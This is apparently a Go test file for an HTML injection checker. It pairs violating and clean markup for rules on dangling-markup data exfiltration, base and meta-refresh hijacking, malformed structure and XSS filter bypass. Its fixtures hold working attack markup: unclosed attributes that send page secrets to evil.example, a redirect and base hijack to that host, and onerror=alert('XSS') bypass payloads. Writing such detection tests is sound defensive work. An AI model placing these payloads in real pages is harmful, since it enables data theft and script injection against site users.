package core

import (
	"slices"
	"testing"
)

// wrap builds a minimal well-formed document around a body payload.
func wrap(body string) []byte {
	return []byte(`<!DOCTYPE html><html><head><title>t</title></head><body>` + body + `</body></html>`)
}

// wrapHead builds a document with the payload inside head.
func wrapHead(head string) []byte {
	return []byte(`<!DOCTYPE html><html><head><title>t</title>` + head + `</head><body><p>x</p></body></html>`)
}

func mustCheck(t *testing.T, html []byte) *Report {
	t.Helper()
	rep, err := NewChecker().Check(html)
	if err != nil {
		t.Fatalf("Check: %v", err)
	}
	return rep
}

// ruleCase pairs a violating and a clean document for one rule.
type ruleCase struct {
	id   string
	bad  []byte
	good []byte
}

func ruleCases() []ruleCase {
	return []ruleCase{
		{
			id:   "DE1",
			bad:  []byte(`<!DOCTYPE html><body><form action="https://evil.example"><input type="submit"><textarea><p>secret</p>`),
			good: wrap(`<form action="/s"><textarea>ok</textarea></form>`),
		},
		{
			id:   "DE2",
			bad:  []byte(`<!DOCTYPE html><body><form action="https://evil.example"><select><option><p>secret</p>`),
			good: wrap(`<select><option>a</option><option>b</option></select>`),
		},
		{
			id:   "DE3_1",
			bad:  wrap("<img src='https://evil.example/?c=\n<p>secret</p>'>"),
			good: wrap(`<img src="https://example.org/x.png">`),
		},
		{
			id: "DE3_2",
			bad: wrap(`<script src="https://evil.example/x.js" inj="
<p>data</p>
<script id=x nonce=r>"></script>`),
			good: wrap(`<script src="/app.js"></script>`),
		},
		{
			id:   "DE3_3",
			bad:  wrap("<a href=\"https://evil.example\">c</a><base target='\n<p>secret</p>'>"),
			good: wrap(`<a href="/x" target="_blank">c</a>`),
		},
		{
			id:   "DE4",
			bad:  wrap(`<form action="https://evil.example"><form id="real" action="/search"><input name=q></form></form>`),
			good: wrap(`<form action="/search"><input name=q></form>`),
		},
		{
			id:   "DM1",
			bad:  wrap(`<meta http-equiv="refresh" content="0; URL=https://evil.example">`),
			good: wrapHead(`<meta http-equiv="refresh" content="1"><meta charset="utf-8">`),
		},
		{
			id:   "DM2_1",
			bad:  wrap(`<base href="https://evil.example/">`),
			good: wrapHead(`<base href="/app/">`),
		},
		{
			id:   "DM2_2",
			bad:  wrapHead(`<base href="/a/"><base href="/b/">`),
			good: wrapHead(`<base href="/a/">`),
		},
		{
			id:   "DM2_3",
			bad:  wrapHead(`<link rel="stylesheet" href="/s.css"><base href="/late/">`),
			good: wrapHead(`<base href="/early/"><link rel="stylesheet" href="/s.css">`),
		},
		{
			id:   "DM3",
			bad:  wrap(`<div id="injection" onclick="evil()" onclick="benign()">x</div>`),
			good: wrap(`<div id="a" onclick="benign()">x</div>`),
		},
		{
			id:   "HF1",
			bad:  []byte(`<!DOCTYPE html><html><head><h1><title>t</title></h1></head><body>x</body></html>`),
			good: wrapHead(``),
		},
		{
			id:   "HF2",
			bad:  []byte(`<!DOCTYPE html><html><head><title>t</title></head><p <body onload="check()">x</html>`),
			good: wrap(`<p>x</p>`),
		},
		{
			id:   "HF3",
			bad:  []byte(`<!DOCTYPE html><html><head></head><body class="a"><p>x</p><body onload="evil()"></body></html>`),
			good: wrap(`<p>x</p>`),
		},
		{
			id:   "HF4",
			bad:  wrap(`<table><tr><strong>Headline</strong></tr><tr><td>x</td></tr></table>`),
			good: wrap(`<table><tr><td><strong>Headline</strong></td></tr></table>`),
		},
		{
			id:   "HF5_1",
			bad:  wrap(`<path d="M0 0L1 1"/><rect width="5"/>`),
			good: wrap(`<svg><path d="M0 0L1 1"/></svg>`),
		},
		{
			id:   "HF5_2",
			bad:  wrap(`<svg><desc></desc><div>break</div></svg>`),
			good: wrap(`<svg><g><circle r="4"/></g></svg>`),
		},
		{
			id:   "HF5_3",
			bad:  wrap(`<math><mglyph><ul><li>x</li></ul></math>`),
			good: wrap(`<math><mi>x</mi></math>`),
		},
		{
			id:   "FB1",
			bad:  wrap(`<img/src="x"/onerror="alert('XSS')">`),
			good: wrap(`<img src="x" onerror="alert('XSS')"> <br/>`),
		},
		{
			id:   "FB2",
			bad:  wrap(`<img src="users/injection"onerror="alert('XSS')">`),
			good: wrap(`<img src="users/x" onerror="alert('XSS')">`),
		},
	}
}

func TestEachRuleDetectsItsViolation(t *testing.T) {
	for _, tc := range ruleCases() {
		t.Run(tc.id, func(t *testing.T) {
			rep := mustCheck(t, tc.bad)
			if !rep.Violated(tc.id) {
				t.Fatalf("%s not detected; findings = %v", tc.id, rep.Findings)
			}
		})
	}
}

func TestEachRuleCleanOnGoodMarkup(t *testing.T) {
	for _, tc := range ruleCases() {
		t.Run(tc.id, func(t *testing.T) {
			rep := mustCheck(t, tc.good)
			if rep.Violated(tc.id) {
				t.Fatalf("%s false positive; findings = %v", tc.id, rep.Findings)
			}
		})
	}
}

// TestCleanDocumentHasNoViolations guards against cross-rule false
// positives on a realistic well-formed page.
func TestCleanDocumentHasNoViolations(t *testing.T) {
	page := []byte(`<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta http-equiv="content-security-policy" content="default-src 'self'">
<base href="/app/">
<title>Fine page</title>
<link rel="stylesheet" href="style.css">
<style>body { margin: 0 }</style>
<script src="app.js" defer></script>
</head>
<body>
<header><h1>Welcome</h1></header>
<nav><ul><li><a href="/a">A</a></li><li><a href="/b">B</a></li></ul></nav>
<table>
<caption>Data</caption>
<thead><tr><th>k</th><th>v</th></tr></thead>
<tbody><tr><td>x</td><td>1</td></tr></tbody>
</table>
<form action="/search" method="get">
<select name="c"><optgroup label="g"><option value="1">one</option></optgroup></select>
<textarea name="t">free text</textarea>
<input type="submit" value="go">
</form>
<svg viewBox="0 0 10 10"><circle cx="5" cy="5" r="4"/></svg>
<math><mrow><mi>a</mi><mo>+</mo><mi>b</mi></mrow></math>
<footer><p>&copy; 2022</p></footer>
<script>console.log("hi");</script>
</body>
</html>`)
	rep := mustCheck(t, page)
	if rep.HasViolation() {
		t.Fatalf("clean page flagged: %v", rep.Findings)
	}
	if !rep.Signals.UsesMath || !rep.Signals.UsesSVG {
		t.Fatalf("signals missed math/svg: %+v", rep.Signals)
	}
}

func TestRuleMetadata(t *testing.T) {
	rules := Rules()
	if len(rules) != 20 {
		t.Fatalf("catalogue size = %d, want 20", len(rules))
	}
	seen := map[string]bool{}
	for _, r := range rules {
		if seen[r.ID] {
			t.Fatalf("duplicate rule id %s", r.ID)
		}
		seen[r.ID] = true
		// One implementation per rule: hook rules are always driven
		// through Stream, so a Check beside it would be dead code.
		if (r.Check == nil) == (r.Stream == nil) {
			t.Fatalf("%s must have exactly one of Check and Stream", r.ID)
		}
		if len(r.Doc) < 40 {
			t.Fatalf("%s has no substantive doc", r.ID)
		}
		if GroupOf(r.ID) != r.Group {
			t.Fatalf("%s group mismatch: %s vs %s", r.ID, GroupOf(r.ID), r.Group)
		}
		switch r.Group {
		case FilterBypass, DataManipulation:
			if !r.AutoFixable {
				t.Fatalf("%s should be auto-fixable (paper §4.4)", r.ID)
			}
		case DataExfiltration, HTMLFormatting:
			if r.AutoFixable {
				t.Fatalf("%s should not be auto-fixable", r.ID)
			}
		}
	}
	for _, id := range []string{"DE1", "DE2", "DE3_1", "DE3_2", "DE3_3", "DE4",
		"DM1", "DM2_1", "DM2_2", "DM2_3", "DM3",
		"HF1", "HF2", "HF3", "HF4", "HF5_1", "HF5_2", "HF5_3", "FB1", "FB2"} {
		if !seen[id] {
			t.Fatalf("missing rule %s", id)
		}
	}
}

func TestOnlyAutoFixable(t *testing.T) {
	rep := mustCheck(t, wrap(`<div id=a id=b>x</div><img src=u"x"onerror=e>`))
	if !rep.Violated("DM3") {
		t.Fatal("DM3 expected")
	}
	if !rep.OnlyAutoFixable() {
		t.Fatalf("all violations fixable, got %v", rep.ViolatedIDs())
	}
	rep = mustCheck(t, wrap(`<div id=a id=b>x</div><table><b>h</b></table>`))
	if rep.OnlyAutoFixable() {
		t.Fatalf("HF4 is not fixable, got %v", rep.ViolatedIDs())
	}
	rep = mustCheck(t, wrap(`<p>nothing wrong</p>`))
	if rep.OnlyAutoFixable() {
		t.Fatal("no violations at all — not 'fixable'")
	}
}

// TestSubsetCheckerRunsTreeRules: a checker over a rule subset runs
// exactly those rules, hook rules and tree rules alike, over the one
// parse.
func TestSubsetCheckerRunsTreeRules(t *testing.T) {
	rep, err := NewChecker("FB1", "DM3", "DE4").Check(wrap(`<img/src=x/onerror=e><div a=1 a=2>x</div><form><form></form>`))
	if err != nil {
		t.Fatal(err)
	}
	if got := rep.ViolatedIDs(); !slices.Equal(got, []string{"DE4", "DM3", "FB1"}) {
		t.Fatalf("subset checker found %v, want [DE4 DM3 FB1]", got)
	}
}

func TestParseRuleIDs(t *testing.T) {
	ids, err := ParseRuleIDs("DE4,DM3, FB1,")
	if err != nil || !slices.Equal(ids, []string{"DE4", "DM3", "FB1"}) {
		t.Fatalf("ParseRuleIDs = %v, %v", ids, err)
	}
	for _, bad := range []string{"DE9", "de4", "DE4,,XX"} {
		if _, err := ParseRuleIDs(bad); err == nil {
			t.Errorf("ParseRuleIDs(%q) accepted an unknown ID", bad)
		}
	}
}

func TestMitigationSignals(t *testing.T) {
	rep := mustCheck(t, wrap("<img src='https://e/?a=\nplain'>"))
	if !rep.Signals.NewlineInURL || rep.Signals.NewlineAndLtInURL {
		t.Fatalf("signals = %+v", rep.Signals)
	}
	rep = mustCheck(t, wrap("<img src='https://e/?a=\n<b>'>"))
	if !rep.Signals.NewlineAndLtInURL {
		t.Fatalf("signals = %+v", rep.Signals)
	}
	rep = mustCheck(t, wrap(`<iframe srcdoc="<script>x()</script>"></iframe>`))
	if !rep.Signals.ScriptInAttribute || rep.Signals.NonceScriptAffected {
		t.Fatalf("signals = %+v", rep.Signals)
	}
}
